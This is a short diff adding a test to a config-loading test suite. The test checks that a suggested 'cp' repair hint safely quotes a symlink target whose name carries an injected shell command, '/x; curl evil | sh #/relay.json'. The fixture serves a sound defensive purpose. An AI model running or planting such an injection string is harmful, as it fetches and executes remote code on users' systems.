@@ -131,6 +131,16 @@ describe('loadProject', () => {
     expect(await failure(load({}, prepare))).toMatchObject({ kind: 'usage', message, hint: expect.any(String) })
   })
 
+  it('gives a command that runs nothing else, whatever the link leads to is called', async () => {
+    const loading = load({}, ({ disk }) => {
+      disk.write('/x; curl evil | sh #/relay.json', config)
+      disk.symlink('/x; curl evil | sh #/relay.json', 'relaycode.config.json')
+    })
+    expect(await failure(loading)).toMatchObject({
+      hint: "Put a regular file in its place: `cp --remove-destination -- '/x; curl evil | sh #/relay.json' /project/relaycode.config.json`",
+    })
+  })
+
   it('says it when the file may not be read', async () => {
     const loading = load({ files: { 'relaycode.config.json': config } }, ({ disk }) => {
       disk.onCall = name => {
